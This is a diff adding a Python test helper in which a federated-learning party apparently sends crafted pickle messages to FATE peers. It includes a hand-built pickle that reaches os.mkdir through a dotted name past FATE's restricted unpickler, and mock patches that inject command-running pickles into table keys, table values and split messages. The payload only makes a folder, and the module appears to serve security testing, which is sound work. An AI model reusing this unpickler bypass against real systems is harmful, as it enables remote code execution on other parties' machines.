@@ -1,0 +1,80 @@
+"""A party that keeps to the protocol but for one message, in which it sends what runs a command where it is unpickled.
+
+It works below both FATE's messages and ours, on what a federation is given to carry.
+"""
+import os
+import pickle
+from contextlib import contextmanager
+from functools import partial
+from unittest import mock
+
+MIB = 1 << 20
+
+
+class Command:
+    """A pickle of it makes a folder where it is read."""
+
+    def __init__(self, folder):
+        self.folder = str(folder)
+
+    def __reduce__(self):
+        return os.mkdir, (self.folder,)
+
+
+def dotted_name(folder, ctx=None, **address) -> bytes:
+    """A message of FATE whose pickle calls os.mkdir by a dotted name, which FATE's restricted unpickler lets pass."""
+    calls = _text("fate.arch.config._config") + _text("os.mkdir") + b"\x93" + _text(str(folder)) + b"\x85R"
+    return b"\x00\x80\x04" + calls + b"."
+
+
+def large(folder, ctx, *, name, tag, parties) -> bytes:
+    """The head of a message of FATE above 1 MiB, whose slices, 2 MiB of a table that is sent along, run the command."""
+    from fate.arch.federation.api._serdes import _FederationBytesCoder, _SplitTableUtil, TableMeta
+
+    slices = ctx.computing.parallelize([(at, (bytes(MIB), Command(folder))) for at in range(2)], partition=1)
+    ctx.federation.push_table(slices, name=_SplitTableUtil.get_split_table_key(name), tag=tag, parties=parties)
+    return _FederationBytesCoder.encode_split(TableMeta(1, 0, 0, 0), 2 * MIB, 2, MIB)
+
+
+@contextmanager
+def hostile_message(ctx, receiver, number, message, folder):
+    """The ``number``-th message of this party to ``receiver``, from 0, is what ``message`` makes."""
+    from fate.arch.federation.api import Federation
+
+    push, left = Federation.push_bytes, [number]
+
+    def pushing(federation, v, name, tag, parties):
+        if receiver in map(tuple, parties):
+            left[0] -= 1
+            if left[0] == -1:
+                v = message(folder, ctx, name=name, tag=tag, parties=parties)
+        return push(federation, v=v, name=name, tag=tag, parties=parties)
+
+    with mock.patch.object(Federation, "push_bytes", pushing):
+        yield
+
+
+@contextmanager
+def hostile_table(folder, of_keys=False):
+    """Every table that this party sends has values, or keys, that run the command."""
+    from fate.arch.federation.api import Federation
+
+    push = Federation.push_table
+    rows = partial(_hostile_rows, pickled=pickle.dumps(Command(folder)), of_keys=of_keys)
+
+    def pushing(federation, table, name, tag, parties):
+        forms = dict(output_key_serdes_type=table.key_serdes_type, output_value_serdes_type=table.value_serdes_type)
+        table = table.mapPartitionsWithIndexNoSerdes(rows, output_partitioner_type=table.partitioner_type, **forms)
+        return push(federation, table=table, name=name, tag=tag, parties=parties)
+
+    with mock.patch.object(Federation, "push_table", pushing):
+        yield
+
+
+def _hostile_rows(_, rows, pickled, of_keys):
+    for key, value in rows:
+        yield (pickled, value) if of_keys else (key, pickled)
+
+
+def _text(text: str) -> bytes:
+    return b"\x8c" + bytes([len(text)]) + text.encode()
